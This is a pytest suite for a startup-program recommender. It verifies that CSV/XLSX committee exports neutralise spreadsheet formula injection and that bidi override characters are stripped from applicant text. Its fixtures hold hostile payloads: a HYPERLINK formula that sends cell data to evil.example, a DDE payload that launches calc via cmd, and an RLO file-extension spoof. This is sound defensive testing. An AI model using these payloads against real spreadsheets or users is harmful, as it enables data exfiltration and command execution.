"""Formula injection (OWASP "CSV Injection") and bidi overrides in committee files and exports:
text from applicants and imports never becomes a formula cell, and bidi controls are gone."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from recommender.io.reading import read_programs
from recommender.io.writing import write_records
from recommender.rounds.run import run_round
from recommender.schemas import Application, Program
from recommender.store.database import Store
from tests.recommender._round_fixtures import (
    ROUND_ID,
    make_applications,
    make_model,
    make_programs,
    make_round,
)

EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
RLO = "\u202e"


def _cells_of_workbook(path: Path) -> list:
    workbook = load_workbook(path)
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _csv_fields(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [field for row in csv.reader(handle) for field in row]


@pytest.fixture
def evil_round(tmp_path: Path) -> Path:
    store = Store(f"sqlite:///{tmp_path / 'peyvand.db'}")
    store.upgrade()
    programs = make_programs()
    programs[0] = programs[0].model_copy(update={"name": "@SUM(1+1)*cmd|' /C calc'!A0"})
    applications = make_applications(6)
    applications[0] = applications[0].model_copy(update={"startup_name": EVIL})
    applications[1] = applications[1].model_copy(
        update={"id": "=1+2", "startup_name": "+cmd", "city": "-2+3"}
    )
    store.upsert_programs(programs)
    store.upsert_applications(applications)
    store.upsert_rounds([make_round()])
    out = tmp_path / "committee"
    run_round(store, ROUND_ID, make_model(), out, allocate=True, top=3)
    store.close()
    return out


def test_report_xlsx_has_no_formula_cells(evil_round: Path):
    cells = _cells_of_workbook(evil_round / "report.xlsx")
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(TRIGGERS)]
    # The text is still there, neutralised with a leading quote.
    assert any(t == "'" + EVIL for t in texts) or all("HYPERLINK" not in t for t in texts)


def test_committee_csv_files_neutralise_formula_text(evil_round: Path):
    for name in ("scores.csv", "shortlists.csv", "top_programs.csv", "allocation.csv"):
        fields = _csv_fields(evil_round / name)
        assert not [f for f in fields if f.startswith(TRIGGERS)], name
        assert "'=1+2" in fields, name


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_exports_neutralise_and_import_gives_the_same_text(tmp_path: Path, suffix: str):
    program = make_programs()[0].model_copy(update={"name": EVIL, "id": "=prog"})
    path = tmp_path / f"programs{suffix}"
    write_records(path, "programs", [program])
    if suffix == ".csv":
        fields = _csv_fields(path)
    else:
        cells = _cells_of_workbook(path)
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        fields = [c.value for c in cells if isinstance(c.value, str)]
    assert not [f for f in fields if f.startswith(TRIGGERS)]
    back = read_programs(path).items[0]
    assert (back.id, back.name) == ("=prog", EVIL)


def test_bidi_controls_are_stripped_from_contract_text():
    base = make_applications(1)[0].model_dump()
    application = Application.model_validate(
        {**base, "startup_name": f"exe.{RLO}gpj", "sectors": [f"fin{RLO}tech"]}
    )
    assert application.startup_name == "exe.gpj"
    assert application.sectors == ["fintech"]
    program = Program.model_validate(
        {**make_programs()[0].model_dump(), "name": "\u2066نام\u2069 \u202bبرنامه\u202c"}
    )
    assert program.name == "نام برنامه"


def test_service_round_job_csv_neutralises_formula_text(sqlite_env):
    from tests.api.conftest import application_body

    env = sqlite_env
    today = dt.date.today()
    env.client.post(
        "/v1/rounds",
        json={
            "id": "r-evil",
            "name": "دوره",
            "opens_on": (today - dt.timedelta(days=1)).isoformat(),
            "closes_on": (today + dt.timedelta(days=9)).isoformat(),
            "programs": [{"program_id": "fin-teh"}],
        },
        headers=env.auth("staff"),
    )
    created = env.client.post(
        "/v1/applications",
        json=application_body(startup_name=EVIL, round_id="r-evil"),
        headers=env.auth("applicant"),
    )
    assert created.status_code == 201, created.text
    job_id = env.client.post("/v1/rounds/r-evil/score", headers=env.auth("staff")).json()["job_id"]
    assert env.wait_job(job_id)["status"] == "succeeded"
    for name in ("shortlists.csv", "top_programs.csv"):
        text = env.client.get(f"/v1/jobs/{job_id}/files/{name}", headers=env.auth("staff")).text
        fields = [f for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for f in row]
        assert "'" + EVIL in fields, name
        assert not [f for f in fields if f.startswith(TRIGGERS)], name
